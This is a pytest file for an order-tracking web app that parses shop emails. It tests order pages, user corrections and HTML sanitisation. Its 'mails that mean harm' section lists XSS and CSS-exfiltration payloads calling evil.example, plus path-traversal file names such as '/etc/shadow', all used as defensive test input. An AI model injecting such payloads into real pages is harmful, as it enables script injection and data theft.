"""One order on the page: proofs in the mail, corrections that survive a rebuild, and mails that mean harm."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import httpx
import pytest

from monitor import knowledge
from monitor.evidence.story import Teller
from monitor.run import orders, showing, single
from monitor.run.rebuild import rebuild
from tests import browser, post, web_world
from tests.post import NOW, at
from tests.web_world import fill, order_mail

SIZES = pytest.mark.parametrize("size", [browser.WIDE, browser.PHONE], ids=["wide", "phone"])


@pytest.fixture
def page(tmp_path: Path) -> Iterator[browser.Page]:
    with browser.Page(tmp_path, language="ko", now=NOW, user=web_world.user()) as made:
        yield made


def ids(page: browser.Page) -> dict[str, str]:
    """By order number: the id."""
    found = orders.orders(page.store, page.config, None, NOW)
    return {view.order.number or "": view.order.id for view in found}


def say(page: browser.Page, client: httpx.Client, order_id: str, **fields: str) -> httpx.Response:
    return page.post(client, f"/orders/{order_id}/say", **fields)


def mail_of(page: browser.Page, order_id: str) -> str:
    found = next(event.mail for event in page.store.events(order_id) if event.mail)
    assert found is not None
    return found


# -- what is shown ------------------------------------------------------------------------------------------------


@SIZES
@pytest.mark.parametrize("language", ["ko", "en"])
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_the_page_of_an_order_is_accessible_in_every_form(
    chromium: Any, tmp_path: Path, size: tuple[int, int], language: str, dark: bool
) -> None:
    with browser.Page(tmp_path, language=language, now=NOW, user=web_world.user(language)) as page:
        fill(page, [order_mail(), post.order(2, at(4)), post.shipped(2, at(6)), post.letter(2, at(12))])
        for number, order_id in ids(page).items():
            for path, name in (
                (f"/orders/{order_id}", "order"),
                (f"/orders/{order_id}/mails/{mail_of(page, order_id)}", "mail"),
            ):
                with page.open(chromium, path, size=size, dark=dark) as tab:
                    for summary in tab.locator("details > summary").all():
                        summary.evaluate("one => one.parentElement.open = true")
                    assert browser.axe(tab) == [], path
                    assert not browser.overflows(tab), path
                    browser.shot(tab, f"{name}-{number[-1]}-{language}-{'dark' if dark else 'light'}-{size[0]}")


def test_every_value_stands_with_the_words_that_prove_it(page: browser.Page) -> None:
    fill(page, [order_mail()])
    (order_id,) = ids(page).values()
    client = page.client()
    text = client.get(f"/orders/{order_id}").text
    for quote in ("주문번호: 20261102-0001", "총 결제금액: 31,000원", "상품명: 머그컵 세트"):
        assert f"<q>{quote}</q>" in text
    mail = client.get(f"/orders/{order_id}/mails/{mail_of(page, order_id)}").text
    marks = dict(re.findall(r'<mark id="proof-([a-z_]+)"[^>]*>([^<]+)</mark>', mail))
    assert marks["order_number"] == "주문번호: 20261102-0001" and marks["total"] == "총 결제금액: 31,000원"


def test_a_card_number_in_a_mail_is_shown_by_its_last_digits_only(page: browser.Page) -> None:
    text = "주문번호: 20261102-0001\n총 결제금액: 31,000원\n카드번호 4111-1111-1111-1111 로 결제되었습니다.\n"
    html = "<p>주문번호: 20261102-0001</p><p>카드 4111 1111 1111 1111</p>"
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "한빛상점 <order@hanbit-shop.co.kr>", post.ME, "주문이 접수되었습니다"
    mail["Date"], mail["Message-ID"] = "Mon, 02 Nov 2026 12:00:00 +0000", "<card@hanbit>"
    mail.set_content(text)
    mail.add_alternative(html, subtype="html")
    fill(page, [mail.as_bytes()])
    (order_id,) = ids(page).values()
    client, identity = page.client(), mail_of(page, order_id)
    for path in ("", f"/mails/{identity}", f"/mails/{identity}/html"):
        shown = client.get(f"/orders/{order_id}{path}").text
        assert "4111-1111" not in shown and "4111 1111" not in shown and "41111111" not in shown
    assert "****1111" in client.get(f"/orders/{order_id}/mails/{identity}").text


# -- what the user says -------------------------------------------------------------------------------------------


@SIZES
def test_a_correction_by_hand_survives_a_rebuild(chromium: Any, page: browser.Page, size: tuple[int, int]) -> None:
    fill(page, [order_mail()])
    (order_id,) = ids(page).values()
    with page.open(chromium, f"/orders/{order_id}", size=size) as tab:
        facts = tab.locator("dl.proven")
        facts.locator("summary", has_text="금액").click()
        facts.locator("input[placeholder='31000 KRW']").fill("29000 KRW")
        facts.locator("form", has=tab.locator("input[placeholder='31000 KRW']")).get_by_role("button").click()
        assert "29,000원" in tab.locator("dl.proven").inner_text()
        assert "직접 입력" in tab.locator("dl.proven").inner_text()
    rebuild(page.store, page.config, knowledge.load(), now=NOW)
    with page.open(chromium, f"/orders/{order_id}", size=size) as tab:
        assert "29,000원" in tab.locator("dl.proven").inner_text()


@pytest.mark.parametrize(
    ("fields", "check"),
    [
        ({"verb": "arrived"}, lambda order: order.arrived_said is True),
        ({"verb": "not-arrived"}, lambda order: order.arrived_said is False),
        ({"verb": "returned"}, lambda order: order.returned_at is not None),
        ({"verb": "refunded", "value": "12000"}, lambda order: str(order.given_back.amount) == "12000"),
        ({"verb": "refunded"}, lambda order: order.fully_refunded),
        ({"verb": "snooze", "value": "2026-12-24"}, lambda order: order.snoozed_until.isoformat() == "2026-12-24"),
        ({"verb": "closed", "value": "lost"}, lambda order: order.closed_at is not None),
        ({"verb": "set", "field": "payment", "value": "paypal"}, lambda order: order.payment == "paypal"),
        ({"verb": "set", "field": "order_number", "value": "A-77"}, lambda order: order.number == "A-77"),
        ({"verb": "set", "field": "promised_by", "value": "2026-12-01"}, lambda order: order.promises[-1].due.day == 1),
    ],
)
def test_what_the_user_says_holds_and_outlives_a_rebuild(
    page: browser.Page, fields: dict[str, str], check: Any
) -> None:
    fill(page, [order_mail()])
    (order_id,) = ids(page).values()
    answer = say(page, page.client(), order_id, **fields)
    assert answer.status_code == 303 and answer.headers["location"] == f"/orders/{order_id}"
    for _ in range(2):
        view = single.one(page.store, page.config, order_id, now=NOW)
        assert view is not None and check(view.order)
        rebuild(page.store, page.config, knowledge.load(), now=NOW)
    assert page.client().get(f"/orders/{order_id}").status_code == 200


@pytest.mark.parametrize(
    "fields",
    [
        {"verb": "refunded", "value": "viel"},
        {"verb": "snooze", "value": "soon"},
        {"verb": "snooze", "value": ""},
        {"verb": "set", "field": "total", "value": "x"},
        {"verb": "set", "field": "no_such_field", "value": "x"},
        {"verb": "set", "field": "card", "value": "4111111111111111"},
        {"verb": "same-as", "value": "nothing"},
        {"verb": "closed", "value": "won"},
        {"verb": "did", "value": "no-such-step"},
    ],
)
def test_what_makes_no_sense_is_refused_in_plain_words_and_changes_nothing(
    page: browser.Page, fields: dict[str, str]
) -> None:
    fill(page, [order_mail()])
    (order_id,) = ids(page).values()
    before = page.store.events()
    answer = say(page, page.client(), order_id, **fields)
    assert answer.status_code == 422 and 'role="alert"' in answer.text and "4111111111111111" not in answer.text
    assert page.store.events() == before


def test_an_unknown_verb_is_no_server_error(page: browser.Page) -> None:
    fill(page, [order_mail()])
    (order_id,) = ids(page).values()
    assert say(page, page.client(), order_id, verb="burn").status_code == 400
    assert say(page, page.client(), "0000000000", verb="arrived").status_code == 404


def test_not_an_order_takes_it_off_the_lists(page: browser.Page) -> None:
    fill(page, [order_mail()])
    (order_id,) = ids(page).values()
    client = page.client()
    assert say(page, client, order_id, verb="not-an-order").headers["location"] == f"/orders/{order_id}"
    for path in (f"/orders/{order_id}", "/orders/dropped"):
        shown = client.get(path).text
        assert "주문이 아닌 것으로 표시한 항목" in shown
        assert "한빛상점 · 20261102-0001" in shown and "hanbit-shop" not in shown
    assert ids(page) == {}


def test_two_orders_are_joined_and_a_mail_is_set_apart_again(page: browser.Page) -> None:
    fill(page, [order_mail(1), order_mail(2, at(3)), post.shipped(2, at(6))])
    found = ids(page)
    client = page.client()
    first, second = found["20261102-0001"], found["20261102-0002"]
    assert say(page, client, first, verb="same-as", value=second).status_code == 303
    assert list(ids(page).values()) == [first]
    assert client.get(f"/orders/{second}").headers["location"] == f"/orders/{first}"
    joined = page.store.events(first)
    parcel = next(event.mail for event in joined if event.kind == "shipped")
    assert page.post(client, f"/orders/{first}/mails/{parcel}/move", to="own").status_code == 303
    assert len(ids(page)) == 2
    rebuild(page.store, page.config, knowledge.load(), now=NOW)
    assert len(ids(page)) == 2
    assert [event.kind for event in page.store.events(first)] == [
        "order_confirmation",
        "order_confirmation",
        "same_as",
        "split",
    ]


def test_a_wrong_mail_goes_to_the_right_order_or_to_none(page: browser.Page) -> None:
    fill(page, [order_mail(1), order_mail(2, at(3)), post.shipped(2, at(6))])
    found = ids(page)
    first, second = found["20261102-0001"], found["20261102-0002"]
    client = page.client()
    parcel = next(event.mail for event in page.store.events(second) if event.kind == "shipped")
    assert page.post(client, f"/orders/{second}/mails/{parcel}/move", to=first).status_code == 303
    rebuild(page.store, page.config, knowledge.load(), now=NOW)
    assert "shipped" in [event.kind for event in page.store.events(first)]
    assert page.post(client, f"/orders/{first}/mails/{parcel}/move", to="none").status_code == 303
    rebuild(page.store, page.config, knowledge.load(), now=NOW)
    assert not [event for event in page.store.events() if event.kind == "shipped"]
    assert page.store.raw(str(parcel)) is not None  # taken out of the order, not thrown away
    only = mail_of(page, first)
    assert page.post(client, f"/orders/{first}/mails/{only}/move", to="none").status_code == 422


def test_the_question_whether_it_arrived_is_answered_with_one_click(chromium: Any, page: browser.Page) -> None:
    fill(page, [order_mail(2, at(2)), post.shipped(2, at(3))])
    (order_id,) = ids(page).values()
    with page.open(chromium, f"/orders/{order_id}", script=False) as tab:
        asked = tab.locator(".ask")
        assert "도착했습니까" in asked.inner_text() or asked.get_by_role("button").count() == 2
        asked.get_by_role("button", name="도착했습니다").click()
        assert tab.locator(".ask").count() == 0
    view = single.one(page.store, page.config, order_id, now=NOW)
    assert view is not None and view.judgement.state == "delivered"


def test_one_order_by_itself_is_what_it_is_among_all(page: browser.Page) -> None:
    mails = [order_mail(n, at(2) + timedelta(hours=n)) for n in range(1, 9)]
    mails += [post.shipped(n, at(4) + timedelta(hours=n)) for n in range(1, 9, 2)] + [post.letter(3, at(12))]
    fill(page, mails)
    everything = {view.order.id: view for view in orders.orders(page.store, page.config, None, NOW)}
    assert single.some(page.store, page.config, everything, now=NOW) == everything
    for order_id, view in everything.items():
        assert single.one(page.store, page.config, order_id, now=NOW) == view


# -- mails that mean harm -----------------------------------------------------------------------------------------

HARM = {
    "script": "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
    "event": "<p onclick='x()' onmouseover=\"fetch('https://evil.example')\" tabindex=1 autofocus onfocus=x()>a</p>",
    "style": "<style>body{background:url(https://evil.example/a)}</style><p style='background:url(//evil.example/b)'>a</p>",  # noqa: E501
    "css": "<style>input[value^='a']{background:url(https://evil.example/?a)}@import 'https://evil.example/c';</style>",
    "link": "<a href='javascript:alert(1)'>a</a><a href='https://evil.example/go'>b</a><a href='data:text/html,x'>c</a>",  # noqa: E501
    "picture": "<img src='https://evil.example/t.gif'><img srcset='https://evil.example/2x 2x'><video poster='//evil.example/p'>",  # noqa: E501
    "cid": "<img src='cid:logo@shop'><table background='cid:bg'><tr><td background='//evil.example/x'>a</td></tr></table>",  # noqa: E501
    "form": "<form action='https://evil.example'><input name=p type=password><button formaction='//evil.example'>ok</button></form>",  # noqa: E501
    "svg": "<svg onload=alert(1)><script>alert(2)</script><use href='https://evil.example/#x'/><a xlink:href='javascript:1'>x</a></svg>",  # noqa: E501
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "frame": "<iframe src='https://evil.example'></iframe><object data='//evil.example'></object><embed src='//evil.example'>",  # noqa: E501
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'><link rel=stylesheet href='//evil.example/s'>",  # noqa: E501
    "mutation": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><textarea><img title='</textarea><script>x</script>'>",  # noqa: E501
    "escape": "</body></html><script>parent.document.title='owned'</script><plaintext>",
    "clobber": "<p id='body' name='cookie' class='card notice'>a</p><template><script>x</script></template>",
}  # fmt: skip
SAFE = re.compile(r"<(?!/)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>")


@pytest.mark.parametrize("harm", HARM)
def test_nothing_of_a_hostile_mail_survives_that_acts_or_asks(harm: str) -> None:
    cleaned = showing.safe_html(f"<p>주문번호 1</p>{HARM[harm]}<p>끝</p>")
    assert "evil.example" not in cleaned and "javascript" not in cleaned and "alert" not in cleaned
    for tag, attributes in SAFE.findall(cleaned):
        names = set(re.findall(r" ([a-z]+)=", attributes))
        assert tag in showing.TAGS and tag != "img"
        assert names <= {"colspan", "rowspan", "align", "valign", "start", "dir", "lang"}, (tag, names)
    assert len(SAFE.findall(cleaned)) == len(re.findall(r"<(?!/)", cleaned))


def test_a_browser_that_shows_hostile_mails_asks_nobody_and_runs_nothing(chromium: Any, page: browser.Page) -> None:
    fill(page, [order_mail(html="<p>주문번호: 20261102-0001</p>" + "".join(HARM.values()))])
    (order_id,) = ids(page).values()
    asked: list[str] = []
    with page.open(chromium, "/") as tab:
        tab.context.on("request", lambda request: asked.append(request.url))
        tab.goto(f"{page.url}/orders/{order_id}/mails/{mail_of(page, order_id)}")
        frame = tab.locator("iframe.mail-frame")
        frame.scroll_into_view_if_needed()
        inside = frame.content_frame.locator("body")
        inside.wait_for()
        assert "끝" in inside.inner_text() or "20261102-0001" in inside.inner_text()
        assert inside.locator("a[href], img, form, input, script, style, svg, iframe").count() == 0
        assert frame.get_attribute("sandbox") == ""
        assert tab.title() != "owned"
        tab.wait_for_timeout(300)
    assert asked and all(url.startswith(page.url) for url in asked)


def test_the_frame_has_a_policy_of_its_own_that_lets_nothing_in(page: browser.Page) -> None:
    fill(page, [order_mail(html="<p>주문번호: 20261102-0001</p>")])
    (order_id,) = ids(page).values()
    answer = page.client().get(f"/orders/{order_id}/mails/{mail_of(page, order_id)}/html")
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'") and "script-src" not in policy
    assert "frame-ancestors 'self'" in policy and "unsafe" not in policy
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_mail_is_shown_only_below_the_order_that_holds_it(page: browser.Page) -> None:
    fill(page, [order_mail(1), order_mail(2, at(3))])
    found = ids(page)
    client = page.client()
    foreign = mail_of(page, found["20261102-0002"])
    for path in (f"/mails/{foreign}", f"/mails/{foreign}/html", "/mails/..%2f..%2fetc%2fpasswd", "/mails/0"):
        assert client.get(f"/orders/{found['20261102-0001']}{path}").status_code == 404
    stranger = page.client(login=False)
    assert stranger.get(f"/orders/{found['20261102-0001']}/mails/{foreign}").status_code in (303, 401)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\cmd.exe", "cmd.exe"),
        ("C:\\Users\\me\\rechnung.pdf", "rechnung.pdf"),
        ("/etc/shadow", "shadow"),
        ("a\x00b\r\nc.pdf", "a b c.pdf"),
        ("rechnung\u202egpj.exe", "rechnunggpj.exe"),
        (".htaccess", "htaccess"),
        ("...", "file"),
        ("", "file"),
        ("영수증 2026.pdf", "영수증 2026.pdf"),
        ("<script>alert(1)</script>.pdf", "alert(1) .pdf"),
        ("x" * 400 + ".pdf", "x" * 100 + "…" + "x" * 15 + ".pdf"),
    ],
)
def test_an_attachment_is_named_without_a_path_and_without_tricks(name: str, shown: str) -> None:
    assert showing.safe_name(name) == shown


def test_quotes_are_found_whatever_blanks_stand_between_their_words() -> None:
    values = [
        showing.Value("total", 1, "총 결제금액: 31,000원", "generic"),
        showing.Value("item", 1, "머그컵", "generic"),
    ]
    pieces, found = showing.marked("머그컵\n총  결제금액:\n 31,000원 끝", values)
    assert [(piece.text, piece.names) for piece in pieces] == [
        ("머그컵", ("item",)), ("\n", ()), ("총  결제금액:\n 31,000원", ("total",)), (" 끝", ()),
    ]  # fmt: skip
    assert found == {"item", "total"}
    assert "".join(piece.text for piece in pieces) == "머그컵\n총  결제금액:\n 31,000원 끝"


def test_the_only_mail_of_an_order_is_told_to_belong_to_another(page: browser.Page) -> None:
    fill(page, [order_mail(1), order_mail(2, at(3))])
    found = ids(page)
    client = page.client()
    moved = page.post(
        client, f"/orders/{found['20261102-0002']}/mails/{mail_of(page, found['20261102-0002'])}/move",
        to=found["20261102-0001"],
    )  # fmt: skip
    assert moved.status_code == 303
    (view,) = orders.orders(page.store, page.config, None, NOW)
    assert len([event for event in view.order.events if event.reading is not None]) == 2


def test_a_sellers_name_has_one_form_on_every_page(tmp_path: Path) -> None:
    name = '"<script>alert(1)</script>이블샵"'
    failed = post.mail(
        f"{name} <pay@evil-shop.co.kr>", "[이블샵] 결제 실패 안내",
        "결제에 실패했습니다.\n주문번호: 20261105-0009\n결제금액: 9,000원\n", at(8), id_="failed@evil",
    )  # fmt: skip
    text = "주문해 주셔서 감사합니다.\n주문번호: 20261105-0007\n상품명: 머그컵\n총 결제금액: 9,000원\n"
    ordered = post.mail(f"{name} <order@evil-shop.co.kr>", "주문이 접수되었습니다", text, at(2), id_="order@evil")
    with browser.Page(tmp_path, language="ko", now=NOW, user=web_world.user()) as page:
        fill(page, [ordered, failed])
        client = page.client()
        shown = json.loads(page.store.page_orders()[0][0].summary)["seller"]
        assert shown and "<" not in shown
        for path in ("/", "/orders", "/statistics", "/cases"):
            found = html.unescape(client.get(path).text)
            assert shown in found and "script>" not in found.replace("<script src", "").replace("</script>", ""), path


def test_no_way_of_paying_is_chosen_before_the_user_chooses(chromium: Any, page: browser.Page) -> None:
    fill(page, [order_mail().replace("결제수단: 신용카드\r\n".encode(), b"")])
    with page.open(chromium, f"/orders/{next(iter(ids(page).values()))}") as tab:
        form = tab.locator("details form:has(input[name=field][value=payment])")
        form.locator("xpath=..").locator("summary").click()
        assert form.locator("select").input_value() == ""
        form.get_by_role("button").click()
        assert tab.locator("select:invalid").count() >= 1
    assert page.store.statements() == []


def test_an_order_is_found_by_what_the_user_noted_of_it(page: browser.Page) -> None:
    fill(page, [order_mail(1), order_mail(2, at(3))])
    client = page.client()
    order_id = ids(page)["20261102-0002"]
    done = page.post(
        client, f"/orders/{order_id}/say", verb="did", value="inquiry", by="phone", person="박상담", case="CS-7788-11",
        note="사흘 안에 전화를 준다고 했습니다",
    )  # fmt: skip
    assert done.status_code == 303
    page.post(client, f"/orders/{order_id}/notes", text="상자가 찌그러져 있었습니다")
    for words in ("박상담", "CS-7788-11", "cs778811", "전화를 준다고", "찌그러져"):
        found = client.get("/orders", params={"q": words}).text
        assert f"/orders/{order_id}" in found and ids(page)["20261102-0001"] not in found, words


def test_what_stands_in_a_mails_hidden_markup_is_said_in_words_and_not_quoted_to_the_reader(page: browser.Page) -> None:
    markup = (
        '<script type="application/ld+json">{"@context":"http://schema.org","@type":"Order","orderNumber":"NX-40418",'
        '"merchant":{"@type":"Organization","name":"한빛상점"},"price":"31000","priceCurrency":"KRW","orderDelivery":{"expectedArrivalUntil":"2026-11-12"}}</script>'
    )
    text = "주문해 주셔서 감사합니다. 주문이 접수되었습니다."
    plain = post.mail(
        "한빛상점 <order@hanbit-shop.co.kr>", "[한빛상점] 주문이 접수되었습니다", text, at(2), id_="m@h",
        extra=web_world.PROOF,
    )  # fmt: skip
    mail = message_from_bytes(plain, policy=policy.SMTP)
    whole = f"<html><body>{markup}<p>{text}</p></body></html>"
    mail.add_alternative(whole, subtype="html")  # type: ignore[attr-defined]  # an EmailMessage by its policy
    fill(page, [mail.as_bytes()])
    client = page.client()
    (order_id,) = ids(page).values()
    shown = html.unescape(client.get(f"/orders/{order_id}").text)
    assert "NX-40418" in shown and "orderNumber" not in shown
    assert "메일의 프로그램용 자료에서" in shown
    words = html.unescape(client.get(f"/orders/{order_id}/mails/{mail_of(page, order_id)}").text)
    assert "<code" in words.partition("orderNumber: NX-40418")[0][-30:]  # there the proof itself is shown, as a code
    view = single.one(page.store, page.config, order_id, now=NOW)
    assert view is not None
    teller = Teller(view.order, view.judgement, language="ko", timezone="Asia/Seoul", today=NOW.date())
    told = repr(teller.timeline({}))
    assert "프로그램용 자료에 적힌 날짜: 2026년 11월 12일" in told and "expectedArrival" not in told
